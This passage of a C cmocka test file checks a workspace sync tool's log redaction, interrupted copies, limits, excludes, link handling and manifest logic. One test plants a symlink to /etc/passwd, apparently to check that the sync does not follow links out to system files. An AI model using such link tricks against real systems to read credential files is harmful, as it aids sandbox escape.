  assert_int_equal(symlink("/etc/passwd", p), 0);
  common_buf_init(&logged, 1 << 20);
  common_buf_append(&logged, "", 0);
  sm_log_level was = sm_log_get_level();
  sm_log_set_level(SM_LOG_DEBUG);
  sm_log_set_handler(keep_log, NULL);
  outres r;
  int rc = sync_out(s, f, &r, &err);
  sm_log_set_handler(NULL, NULL);
  sm_log_set_level(was);
  if (rc != 0) fail_msg("%s", err.message);
  outres_free(&r);
  char *text = common_buf_steal(&logged, NULL);
  if (strstr(text, "ghp_leased_value_77")) fail_msg("a log line holds the value:\n%s", text);
  /* Each line is still there, the value masked (the short one is not). */
  assert_int_equal(count(text, "'c-[REDACTED].txt' changed on both sides"), 1);
  assert_int_equal(count(text, "'c-[REDACTED].txt.sandman-conflict'"), 1);
  assert_int_equal(count(text, "not applied to the host: 'abc-[REDACTED]'"), 1);
  free(text);
  sm_workspace_sync_free(s);
}

/* workspace_log_path: every occurrence masked, short values left, a cut line
 * never shows the start of a value. */
static void test_log_path(void **state) {
  (void)state;
  ws_redact r;
  workspace_redact_init(&r);
  const char *kv[] = {"A=secret1", "B=tiny", "C=", "NOEQUALS", "D=other-secret",
                      "E=secret1-longer"};
  assert_int_equal(workspace_redact_set(&r, kv, 6, NULL), 0);
  assert_int_equal(r.n, 3);
  char buf[64];
  assert_string_equal(workspace_log_path(&r, "secret1-longer/x", buf, sizeof buf), "[REDACTED]/x");
  assert_string_equal(workspace_log_path(&r, "plain/path", buf, sizeof buf), "plain/path");
  assert_string_equal(workspace_log_path(&r, "secret1", buf, sizeof buf), "[REDACTED]");
  assert_string_equal(workspace_log_path(&r, "a/secret1/b-other-secret.tiny", buf, sizeof buf),
                      "a/[REDACTED]/b-[REDACTED].tiny");
  assert_string_equal(workspace_log_path(&r, "secret1secret1", buf, sizeof buf),
                      "[REDACTED][REDACTED]");
  char small[8];
  assert_string_equal(workspace_log_path(&r, "xxxxsecret1", small, sizeof small), "xxxx[RE");
  assert_string_equal(workspace_log_path(NULL, "secret1", buf, sizeof buf), "secret1");
  workspace_redact_dispose(&r);
  assert_int_equal(r.n, 0);
}

static void test_interrupted(void **state) {
  fx *f = *state;
  char p[1024];
  for (int i = 0; i < 50; i++) {
    char name[32], data[4096];
    snprintf(name, sizeof name, "f%02d", i);
    memset(data, 'a' + i % 26, sizeof data - 1);
    data[sizeof data - 1] = '\0';
    put(f->host, name, data);
  }
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  /* Interrupted copy in: an error, and the manifest still asks for a full copy. */
  workspace_sync_abort_after(s, 30000);
  sm_error err = SM_ERROR_INIT;
  assert_int_not_equal(sm_workspace_sync_in(s, &f->target, &err), 0);
  assert_non_null(strstr(err.message, "aborted"));
  workspace_sync_abort_after(s, -1);
  sync_in_ok(s, f);
  char *a = snapshot(f->host), *b = snapshot(f->scratch);
  assert_string_equal(a, b);
  free(a);
  free(b);
  /* The tool rewrites everything; the copy out is cut half way. */
  for (int i = 0; i < 50; i++) {
    char name[32];
    snprintf(name, sizeof name, "f%02d", i);
    put(f->scratch, name, "rewritten by the tool\n");
  }
  put(f->scratch, "added", "x");
  pathf(p, sizeof p, f->scratch, "f00");
  unlink(p);
  char *before = snapshot(f->host);
  workspace_sync_abort_after(s, 10000);
  outres r;
  assert_int_not_equal(sync_out(s, f, &r, &err), 0);
  char *after = snapshot(f->host);
  assert_string_equal(before, after);
  free(after);
  /* A cap hit mid-way is no different. */
  sm_workspace_sync_free(s);
  sm_workspace_limits lim = {500, 0, 0};
  s = new_sync(f, NULL, &lim);
  assert_int_equal(sync_out(s, f, &r, &err), SM_ETOOBIG);
  after = snapshot(f->host);
  assert_string_equal(before, after);
  free(after);
  sm_workspace_sync_free(s);
  /* Then a whole one goes through. */
  s = new_sync(f, NULL, NULL);
  if (sync_out(s, f, &r, &err) != 0) fail_msg("%s", err.message);
  assert_int_equal(r.n_changed, 51);
  outres_free(&r);
  assert_false(exists(f->host, "f00"));
  free(before);
  sm_workspace_sync_free(s);
}

static void test_limits_and_excludes(void **state) {
  fx *f = *state;
  for (int i = 0; i < 20; i++) {
    char name[32];
    snprintf(name, sizeof name, "f%02d.txt", i);
    put(f->host, name, "x");
  }
  put(f->host, "debug.log", "log");
  char p[1024];
  pathf(p, sizeof p, f->host, "node_modules");
  mkdir(p, 0755);
  put(f->host, "node_modules/dep.js", "dep");
  sm_workspace_limits lim = {0, 10, 0};
  sm_workspace_sync *s = new_sync(f, NULL, &lim);
  sm_error err = SM_ERROR_INIT;
  assert_int_equal(sm_workspace_sync_in(s, &f->target, &err), SM_ETOOBIG);
  assert_non_null(strstr(err.message, "more than 10 entries"));
  sm_workspace_sync_free(s);
  sm_workspace_limits lim2 = {20, 0, 0};
  s = new_sync(f, NULL, &lim2);
  assert_int_equal(sm_workspace_sync_in(s, &f->target, &err), SM_ETOOBIG);
  assert_non_null(strstr(err.message, "size limit"));
  sm_workspace_sync_free(s);

  sm_string_list ex = {0};
  sm_string_list_add(&ex, "*.log", NULL);
  sm_string_list_add(&ex, "node_modules", NULL);
  s = new_sync(f, &ex, NULL);
  sync_in_ok(s, f);
  assert_false(exists(f->scratch, "debug.log"));
  assert_false(exists(f->scratch, "node_modules"));
  assert_true(exists(f->scratch, "f00.txt"));
  put(f->scratch, "tool.log", "not copied back");
  put(f->scratch, "f01.txt", "copied back");
  outres r;
  if (sync_out(s, f, &r, &err) != 0) fail_msg("%s", err.message);
  char *ch = joined(r.changed, r.n_changed);
  assert_string_equal(ch, "f01.txt");
  free(ch);
  outres_free(&r);
  assert_false(exists(f->host, "tool.log"));
  assert_true(exists(f->host, "debug.log"));
  assert_true(exists(f->host, "node_modules/dep.js"));
  sm_workspace_sync_free(s);
}

static void test_tool_type_changes_and_links(void **state) {
  fx *f = *state;
  char p[1024], q[1024];
  put(f->host, "was-file", "file\n");
  pathf(p, sizeof p, f->host, "was-dir");
  mkdir(p, 0755);
  put(f->host, "was-dir/child", "child\n");
  put(f->host, "orig", "shared content\n");
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  pathf(p, sizeof p, f->scratch, "was-file");
  unlink(p);
  mkdir(p, 0755);
  put(f->scratch, "was-file/inside", "inside\n");
  pathf(p, sizeof p, f->scratch, "was-dir");
  tf_rm_rf(p);
  put(f->scratch, "was-dir", "now a file\n");
  /* A hard link made by the tool, and an inside link. */
  pathf(p, sizeof p, f->scratch, "orig");
  pathf(q, sizeof q, f->scratch, "hard");
  assert_int_equal(link(p, q), 0);
  pathf(q, sizeof q, f->scratch, "soft");
  assert_int_equal(symlink("orig", q), 0);
  outres r;
  sm_error err = SM_ERROR_INIT;
  if (sync_out(s, f, &r, &err) != 0) fail_msg("%s", err.message);
  outres_free(&r);
  char *a = snapshot(f->host), *b = snapshot(f->scratch);
  assert_string_equal(a, b);
  free(a);
  free(b);
  char *c = get(f->host, "hard");
  assert_string_equal(c, "shared content\n");
  free(c);
  sm_workspace_sync_free(s);
}

static void test_manifest_file(void **state) {
  fx *f = *state;
  make_tree(f);
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  sm_workspace_sync_free(s);
  ws_manifest m;
  workspace_manifest_init(&m);
  sm_error err = SM_ERROR_INIT;
  assert_int_equal(workspace_manifest_load(&m, NULL, f->manifest, 1000, &err), 0);
  assert_int_equal(m.n, 10);
  assert_string_equal(m.root, f->scratch);
  ws_entry *e = workspace_manifest_get(&m, "name with spaces and ünïcødé.txt");
  assert_non_null(e);
  assert_true(e->has_hash);
  e = workspace_manifest_get(&m, "outlink");
  assert_non_null(e);
  assert_string_equal(e->link, "/etc/hostname");
  workspace_manifest_dispose(&m);
  /* A damaged manifest is ignored: a full copy, and a clean scratch. */
  tf_write_str(f->manifest, "sandman-workspace-manifest 1\ne q\n");
  put(f->scratch, "stale", "left from before\n");
  s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  int64_t ei;
  sm_workspace_sync_stats(s, NULL, &ei, NULL, NULL);
  assert_int_equal(ei, 10);
  assert_false(exists(f->scratch, "stale"));
  sm_workspace_sync_free(s);
}

static ino_t manifest_ino(fx *f) {
  struct stat st;
  if (stat(f->manifest, &st) != 0) return 0;
  return st.st_ino;
}

/* A copy in that changes nothing does not write the manifest again (it is
 * written to a new file and renamed, so a rewrite shows as a new inode);
 * one that changes a record does, and so does one whose file is gone. */
static void test_manifest_not_rewritten(void **state) {
  fx *f = *state;
  make_tree(f);
  char cmd[1200];
  snprintf(cmd, sizeof cmd, "find '%s' -exec touch -h -d '2024-01-02 03:04:05' {} +", f->host);
  assert_int_equal(system(cmd), 0);
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  sm_workspace_sync_free(s);
  ino_t first = manifest_ino(f);
  assert_true(first != 0);
  char *before = tf_read(f->manifest, NULL);
  /* The next call: a new sync object over the saved manifest. */
  s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  int64_t ei = -1;
  sm_workspace_sync_stats(s, NULL, &ei, NULL, NULL);
  assert_int_equal(ei, 0);
  assert_true(manifest_ino(f) == first);
  /* And again in the same object. */
  sync_in_ok(s, f);
  assert_true(manifest_ino(f) == first);
  char *after = tf_read(f->manifest, NULL);
  assert_string_equal(before, after);
  free(after);
  /* Touched, same content: nothing is sent, but its record changed. */
  char p[1024];
  pathf(p, sizeof p, f->host, "plain.txt");
  snprintf(cmd, sizeof cmd, "touch -d '2024-02-03 04:05:06' '%s'", p);
  assert_int_equal(system(cmd), 0);
  sync_in_ok(s, f);
  sm_workspace_sync_stats(s, NULL, &ei, NULL, NULL);
  assert_int_equal(ei, 0);
  ino_t second = manifest_ino(f);
  assert_true(second != 0 && second != first);
  after = tf_read(f->manifest, NULL);
  assert_string_not_equal(before, after);
  free(after);
  /* The file is gone (removed by hand): written again. */
  unlink(f->manifest);
  sync_in_ok(s, f);
  assert_true(manifest_ino(f) != 0);
  sm_workspace_sync_free(s);
  free(before);
}

/* The tool changes content and sets the mtime back (size kept): the ctime
 * gives it away, and the copy out brings the change, whether the listing
 * plans a few fetches or (past the per-path limit) a full read. */
static void test_same_size_and_mtime(void **state) {
  fx *f = *state;
  for (int i = 0; i < 600; i++) {
    char rel[32];
    snprintf(rel, sizeof rel, "f%03d.txt", i);
    put(f->host, rel, "original");
  }
  char cmd[1200];
  snprintf(cmd, sizeof cmd, "find '%s' -exec touch -h -d '2024-01-02 03:04:05' {} +", f->host);
  assert_int_equal(system(cmd), 0);
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  outres r;
  sm_error err = SM_ERROR_INIT;
  assert_int_equal(sync_out(s, f, &r, &err), 0);
  assert_int_equal(r.n_changed, 0);
  outres_free(&r);
  /* One file, then (past the 512 local fetches) every one but the first. */
  for (int round = 0; round < 2; round++) {
    int from = round == 0 ? 7 : 1, to = round == 0 ? 8 : 600;
    for (int i = from; i < to; i++) {
      char rel[32];
      snprintf(rel, sizeof rel, "f%03d.txt", i);
      put(f->scratch, rel, round == 0 ? "ORIGINAL" : "0riginal");
    }
    snprintf(cmd, sizeof cmd, "cd '%s' && find . -name 'f*.txt' ! -name f000.txt -exec touch -d '2024-01-02 03:04:05' {} +",
             f->scratch);
    assert_int_equal(system(cmd), 0);
    assert_int_equal(sync_out(s, f, &r, &err), 0);
    assert_int_equal(r.n_changed, (size_t)(to - from));
    outres_free(&r);
    char *c = get(f->host, "f007.txt");
    assert_string_equal(c, round == 0 ? "ORIGINAL" : "0riginal");
    free(c);
    c = get(f->host, "f000.txt");
    assert_string_equal(c, "original");
    free(c);
  }
  sm_workspace_sync_free(s);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test_setup_teardown(test_round_trip, setup, teardown),
      cmocka_unit_test_setup_teardown(test_incremental, setup, teardown),
      cmocka_unit_test_setup_teardown(test_conflicts, setup, teardown),
      cmocka_unit_test_setup_teardown(test_folder_conflicts, setup, teardown),
      cmocka_unit_test_setup_teardown(test_stage_left_by_crash, setup, teardown),
      cmocka_unit_test_setup_teardown(test_racy_file_never_wedges, setup, teardown),
      cmocka_unit_test_setup_teardown(test_refused_per_entry, setup, teardown),
      cmocka_unit_test_setup_teardown(test_protected_paths, setup, teardown),
      cmocka_unit_test_setup_teardown(test_git_directories, setup, teardown),
      cmocka_unit_test_setup_teardown(test_git_modes_never_widen, setup, teardown),
      cmocka_unit_test_setup_teardown(test_log_masks_secret_values, setup, teardown),
      cmocka_unit_test(test_log_path),
      cmocka_unit_test_setup_teardown(test_interrupted, setup, teardown),
      cmocka_unit_test_setup_teardown(test_limits_and_excludes, setup, teardown),
      cmocka_unit_test_setup_teardown(test_tool_type_changes_and_links, setup, teardown),
      cmocka_unit_test_setup_teardown(test_manifest_file, setup, teardown),
      cmocka_unit_test_setup_teardown(test_manifest_not_rewritten, setup, teardown),
      cmocka_unit_test_setup_teardown(test_same_size_and_mtime, setup, teardown),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
